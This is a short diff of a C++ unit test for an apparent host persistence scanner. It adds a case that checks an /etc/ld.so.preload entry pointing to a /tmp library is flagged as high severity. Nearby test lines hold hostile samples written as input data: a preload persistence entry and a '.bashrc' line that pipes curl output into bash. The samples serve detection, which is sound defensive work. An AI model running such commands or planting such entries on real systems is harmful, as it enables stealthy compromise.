@@ -223,6 +223,8 @@ TEST(PersistenceRules, StartupFiles) {
     EXPECT_EQ(ids(persistence_findings(scan_of(StartupKind::ld_preload, "/etc/ld.so.preload", "# c\n/lib/x.so\n"))),
               std::vector<std::string>{"persist.ld_preload:high"});
     EXPECT_TRUE(persistence_findings(scan_of(StartupKind::ld_preload, "/etc/ld.so.preload", "\n# nothing\n")).empty());
+    EXPECT_EQ(ids(persistence_findings(scan_of(StartupKind::ld_preload, "/etc/ld.so.preload", "/tmp/.x.so\n"))),
+              std::vector<std::string>{"persist.ld_preload:high"});
 
     EXPECT_EQ(ids(persistence_findings(scan_of(StartupKind::shell_rc, "/root/.bashrc", "curl -s x | bash\n"))),
               std::vector<std::string>{"persist.shell_rc.download:high"});
